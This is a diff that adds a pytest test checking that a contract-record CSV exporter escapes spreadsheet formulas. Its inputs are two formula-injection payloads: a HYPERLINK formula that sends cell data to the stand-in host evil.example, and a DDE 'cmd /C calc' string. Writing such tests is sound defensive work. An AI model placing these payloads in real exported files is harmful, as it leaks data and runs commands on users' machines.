@@ -123,6 +123,26 @@ def test_csv_record(encoding: str) -> None:
         assert data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")
 
 
+@pytest.mark.parametrize("encoding", ["cp932", "utf-8"])
+def test_csv_record_cells_never_run_as_formulas(encoding: str) -> None:
+    facts = {
+        **content().facts,
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"請書")',
+        "contractor_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    spec = ContentSpec(
+        documents=False,
+        certificate=False,
+        record=RecordSpec(format="csv", fields=FIELDS, encoding=encoding),
+    )
+    data = _record(render_outbound(replace(content(), facts=facts), spec, "k"))
+    header, row = list(csv.reader(io.StringIO(data.decode(encoding))))
+    values = dict(zip(header, row, strict=True))
+    assert values["件名"] == '\'=HYPERLINK("http://evil.example/?"&A1,"請書")'
+    assert values["契約相手方"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert values["契約金額"] == "31389000"
+
+
 def test_a_character_cp932_cannot_hold_refuses_the_record() -> None:
     c = replace(content(), facts={**content().facts, "contractor_name": "𠮷野家建設"})
     spec = ContentSpec(record=RecordSpec(format="csv", fields=FIELDS, encoding="cp932"))
